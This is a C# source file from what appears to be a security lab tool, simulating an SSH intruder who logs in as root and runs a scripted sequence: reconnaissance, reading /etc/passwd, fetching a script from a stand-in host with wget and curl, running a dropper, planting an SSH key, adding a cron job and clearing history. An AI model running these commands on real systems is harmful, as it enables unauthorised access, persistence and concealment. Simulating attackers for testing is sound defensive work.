using System.Net;
using Blackwall.Lab.Network;

namespace Blackwall.Lab.Tools;

/// <summary>Somebody who found a password and comes in with the OpenSSH client.</summary>
public static class Intruder
{
    /// <summary>What such people do first: where am I, who else is here, what can I bring.</summary>
    public static IReadOnlyList<string> Commands { get; } =
    [
        "uname -a; id; cat /proc/cpuinfo | grep -c processor; free -m | head -2",
        "w; last | head -3; ps aux | grep -v grep | grep -c mysqld",
        "cat /etc/passwd | cut -d: -f1 | head -3; ls -la ~/.ssh",
        "cd /tmp; wget http://192.0.2.80/bins.sh; curl -O http://192.0.2.80/bins.sh; printf '#!/bin/sh\\necho infected\\n' > .x; chmod +x .x; ./.x",
        "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB intruder' >> ~/.ssh/authorized_keys; cat ~/.ssh/authorized_keys",
        "(crontab -l 2>/dev/null; echo '* * * * * /tmp/.x') | crontab -; crontab -l; history -c",
    ];

    /// <summary>Logs in and runs all of <see cref="Commands"/>, one connection each. Returns what they printed.</summary>
    public static async Task<string> WorkAsync(LabHost host, RunFolder run, IPAddress source, IPAddress target, string password, CancellationToken cancellation)
    {
        SshAccess access = await SshAccess.WithPasswordAsync(host, run, source, target, "root", password, cancellation);
        List<string> printed = [];
        foreach (var command in Commands)
        {
            printed.Add((await access.RunAsync(command, cancellation)).Output);
        }

        return string.Concat(printed);
    }
}
